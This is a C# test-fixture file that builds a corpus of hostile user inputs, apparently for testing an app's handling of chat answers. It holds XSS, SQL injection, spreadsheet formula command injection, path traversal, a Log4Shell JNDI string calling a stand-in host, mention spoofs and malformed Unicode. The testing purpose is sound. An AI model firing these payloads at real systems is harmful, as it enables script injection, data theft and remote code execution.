using System.Collections.Immutable;

namespace FossVoices.Tests.Hostile;

/// <summary>What somebody may write who means no good, or whose keyboard does not: made by kinds, each in every surrounding. Well over five hundred strings.</summary>
internal static class HostileCorpus
{
    /// <summary>The longest are beyond anything that can be kept, and must be refused kindly or cut short.</summary>
    private static readonly int[] s_lengths = [3_999, 4_000, 4_001, 65_536, 262_145, 1_000_000];

    private static ImmutableDictionary<string, string[]> Kinds { get; } = new Dictionary<string, string[]>(StringComparer.Ordinal)
    {
        ["mentions"] = ["@everyone", "@here", "<@771827364500112233>", "<@!771827364500112233>", "<@&991827364500445566>", "<#551827364500778899>", "</voices withdraw:1234567890>", "<:evil:123456789>", "<t:0:R>", "<id:customize>",
            "<at>Ada</at>", "<at id=\"0\">everyone</at>", "@channel", "<!channel>", "@\u200Beveryone", "＠everyone"],
        ["links"] = ["http://evil.example/a", "https://evil.example", "HTTPS://EVIL.EXAMPLE", "www.evil.example", "[bank](http://evil.example)", "[bank](<http://evil.example>)", "![x](http://evil.example/x.png)", "<http://evil.example>",
            "[a]: http://evil.example", "steam://run/1", "javascript:alert(1)", "data:text/html,<b>", "mailto:a@evil.example", "//evil.example", "http://169.254.169.254/latest"],
        ["markdown"] = ["**bold**", "__under__", "~~gone~~", "||spoiler||", "`code`", "```\nfence\n```", "> quote", ">>> all", "# heading", "## heading", "-# small", "- item", "1. item", "1) item", "+ item", "* * *", "---", "===", "| a | b |\n|---|---|", "\\", "\\\\", "*", "_", "[^1]", "~~~", "<details>"],
        ["html"] = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</textarea><script>", "\"'><svg/onload=alert(1)>", "<!--", "-->", "<![CDATA[", "]]>", "&lt;b&gt;", "&#60;script&#62;", "&#x3c;", "&amp;", "<b", "</svg><script>", "<iframe src=//evil.example>", "<style>*{display:none}</style>", "<base href=//evil.example>", "<a href='javascript:1'>x</a>", "\u2028</script>"],
        ["cards"] = ["{\"type\":\"Action.OpenUrl\",\"url\":\"http://evil.example\"}", "{{DATE(2017-02-14T06:00Z,SHORT)}}", "${title}", "{project}", "\\{", "}}", "@{x}", "@View.Way", "{{7*7}}", "%s%n", "$(id)", "`id`"],
        ["formulas"] = ["=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1", "\n=1", "\"=1", "';=1", "=cmd|'/c calc'!A1", "\u200B=1", "\u00A0=1"],
        ["bidi"] = ["\u202Egnp.exe", "\u202Aabc\u202C", "\u2066isolated", "\u2067x\u2069", "\u200Fx\u200E", "\u061Cx", "\uFEFFx", "\u2067\u202E\u2066"],
        ["zalgo"] = ["Z" + new string('\u0311', 40) + "algo", "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308", "a" + string.Concat(Enumerable.Range(0x300, 60).Select(c => (char)c)), "x\u20DD\u20DE\u20DF\u20E0"],
        ["controls"] = ["a\0b", "\u0007", "\u0008\u0008", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u009b31m", "\u000b\u000c", "\u007f", "\r", "a\rb", "\u2028", "\u2029", "\u0085", "\uFFFE", "\uFFFF", "\uFFFD", "\u00AD", "\u200B", "\u034F", "\uDB40\uDC41\uDB40\uDC42"],
        ["surrogates"] = ["\uD800", "\uDC00", "a\uD83D", "\uDE00b", "\uD83D\uD83D\uDE00", "\uDE00\uD83D", "\uDBFF\uDFFF"],
        ["pictures"] = ["👩‍👩‍👧", "🏴‍☠️", "🇪🇺", "日本語の文章", "العربية", "हिन्दी", "ﷺ", "𝕋𝕖𝕩𝕥", "ａｂｃ"],
        ["stores"] = ["'; drop table answer; --", "\" or 1=1 --", "%' or '1'='1", "\\x00", "../../etc/passwd", "..\\..\\windows", "NUL", "CON", "file:///etc/passwd", "${jndi:ldap://evil.example/a}", "null", "undefined", "NaN", "true"],
    }.ToImmutableDictionary(StringComparer.Ordinal);

    public static ImmutableArray<(string Kind, string Text)> All { get; } = [.. Short().Concat(Endless()).DistinctBy(one => one.Text)];

    /// <summary>Those that can be an answer in one's own words: short enough, and with something to see in them.</summary>
    public static IEnumerable<string> Answers => All.Select(one => one.Text).Where(text => text.Length <= 4000 && text.Any(c => char.IsLetterOrDigit(c) || char.IsPunctuation(c) || char.IsSymbol(c)));

    /// <summary>One of each kind and surrounding is enough where each costs a page.</summary>
    public static IEnumerable<string> Some => Answers.Index().Where(one => one.Index % 11 == 0).Select(one => one.Item);

    private static IEnumerable<(string Kind, string Text)> Short() =>
        from kind in Kinds
        from payload in kind.Value
        from text in Surroundings(payload)
        select (kind.Key, text);

    private static IEnumerable<string> Surroundings(string payload) => [payload, $"I think {payload} is so", $"{payload} {payload}", $"First.\n{payload}"];

    private static IEnumerable<(string Kind, string Text)> Endless() =>
        from length in s_lengths
        from piece in (string[])["x", "word ", "@everyone ", "<b>", "=1\t", "日本", "\u0301", "`", "["]
        select ("endless", string.Concat(Enumerable.Repeat(piece, (length / piece.Length) + 1))[..length]);
}
